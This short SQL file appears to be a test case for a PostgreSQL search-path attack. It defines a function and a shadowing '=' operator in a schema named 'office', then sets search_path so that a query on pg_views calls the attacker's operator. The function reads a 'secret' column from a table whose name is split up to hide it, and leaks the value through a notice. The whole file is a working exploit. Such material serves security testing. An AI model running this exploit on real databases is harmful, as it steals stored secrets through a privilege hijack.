-- Asks for the texts of views, which the server looks up by = as the search path has it.
-- wants: read
-- attack:
CREATE FUNCTION office.told(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN $1 OPERATOR(pg_catalog.=) $2;
  END $$;
CREATE OPERATOR office.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
SELECT count(definition) FROM pg_views WHERE viewname LIKE 'account_upd%';
